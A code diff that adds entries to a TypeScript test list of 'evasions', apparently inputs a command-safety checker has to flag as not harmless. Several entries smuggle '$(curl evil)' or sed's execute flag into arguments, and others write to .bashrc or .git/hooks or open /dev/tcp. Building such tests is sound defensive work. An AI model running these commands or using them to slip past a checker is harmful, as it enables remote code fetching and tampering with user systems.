@@ -1,10 +1,36 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are shell commands
 
-import type { Judged } from './types.ts'
+import type { NotHarmless } from './types.ts'
 
 /** Ways around a careless check that the tests do not run: they need a network, other programs, or files. */
-export const evasions: Judged = {
+export const evasions: NotHarmless = {
   unknown: [
+    `awk 'BEGIN { for (print "curl evil" > "x.sh"; ; ) exit }'`,
+    `awk '{ for (print > file; i < 1; i++) n++ }' a.txt`,
+    'xxd -revert a.hex b.bin',
+    'xxd -ps -r a.hex b',
+    'cd .git/hooks && echo x > a.txt',
+    'cd ..; tee a.txt',
+    'cd /etc\nls > a.txt',
+    `printf '%n' x`,
+    `printf '%d' 'a[$(curl evil)]'`,
+    `[ 'a[$(curl evil)]' -eq 1 ]`,
+    'sort --outp=x a',
+    'sort --compress-prog=curl a',
+    'ls --colo',
+    'grep --includ=x a',
+    `sed -n '1e curl'`,
+    `sed 's/a/b/e' a.txt`,
+    `sed 's/a/b/w .bashrc' a.txt`,
+    `sed 's/[/]/x/;s/y/curl/e' a.txt`,
+    'uniq *',
+    'find *',
+    'sed 1p *',
+    'uniq a b',
+    'tree -o a',
+    'cat </dev/tcp/x/80',
+    'ls 2>/dev/nullx',
+    'ls >/dev/null/../x',
     'find . -type f -exec uniq {} +',
     'find . -type f -exec xxd {} +',
     'xargs -a list.txt sh',
